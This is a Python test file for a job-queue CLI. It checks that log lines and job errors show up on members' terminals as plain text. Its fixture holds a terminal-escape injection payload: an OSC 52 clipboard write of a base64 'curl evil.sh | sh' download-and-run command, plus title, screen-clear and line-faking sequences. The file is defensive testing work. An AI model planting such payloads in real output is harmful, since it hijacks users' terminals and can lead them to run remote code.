"""A trainer's words reach members' terminals: `\\x1b]52;c;…` in a log line or an error set
the reader's clipboard through `towerq logs`, `\\x1b]0;` its window title, `\\x1b[2J` cleared
its screen (`towerq jobs`, `towerq show` too; `towerq follow --logs` and `towerq run` print
the log's lines as they come). The CLI now prints plain text: no control character but
newline and tab, whatever the API answers."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from service.core.db import Database
from service.core.models import Job, JobState, LogLine
from service.core.settings import Settings
from tests.stack import Stack
from tests.test_cli import towerq
from towerq.cli.plain import plain

pytestmark = pytest.mark.slow
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE = f"loss ok{CLIPBOARD}\x1b]0;owned\x07\x1b[2J\rfaked line\x9b31m"


@pytest.fixture
def settings(make_settings: Callable[..., Settings], sqlite_url: str) -> Settings:
    return make_settings(sqlite_url)


def test_what_a_trainer_wrote_reaches_the_terminal_as_plain_text(
    stack: Stack, tmp_path: Path, db: Database, make_token: Callable[..., str], add_host: Callable[..., None]
) -> None:
    url = stack.start_api()
    add_host("lab-a", 2)
    home = tmp_path / "home"
    assert towerq(home, "login", url, "--token", make_token("alice")).returncode == 0
    spec = json.dumps({"model": "mlp", "dataset": "digits", "gpu_count": 1})
    submitted = towerq(home, "submit", "-", stdin=spec)
    assert submitted.returncode == 0, submitted.stderr
    job_id = int(submitted.stdout.split()[1])  # "job 1 submitted (...)"
    with db.write() as session:
        job = session.get(Job, job_id)
        assert job is not None
        job.state, job.error = JobState.FAILED, HOSTILE
        session.add(LogLine(job_id=job_id, attempt=1, level="info", message=HOSTILE, time=datetime.now(UTC)))

    for args in (("logs", str(job_id)), ("show", str(job_id)), ("jobs",)):
        shown = towerq(home, *args)
        assert shown.returncode == 0, shown.stderr
        assert "loss ok" in shown.stdout, (args, shown.stdout)
        assert not any(c in shown.stdout + shown.stderr for c in "\x1b\x07\r\x9b"), (args, repr(shown.stdout))
    followed = towerq(home, "follow", str(job_id), "--logs")  # the log's lines above the progress line
    assert followed.returncode == 1 and "loss ok" in followed.stdout, followed.stdout + followed.stderr
    assert not any(c in followed.stdout for c in "\x1b\x07\r\x9b"), repr(followed.stdout)
    as_json = towerq(home, "logs", str(job_id), "-o", "json")
    assert json.loads(as_json.stdout)[-1]["message"] == HOSTILE  # a script still gets the words exactly


def test_plain_keeps_text_newlines_and_tabs() -> None:
    assert plain("a\tb\nc ünïcødé ✓") == "a\tb\nc ünïcødé ✓"
    assert plain(HOSTILE) == "loss ok]52;c;Y3VybCBldmlsLnNoIHwgc2g=]0;owned[2Jfaked line31m"
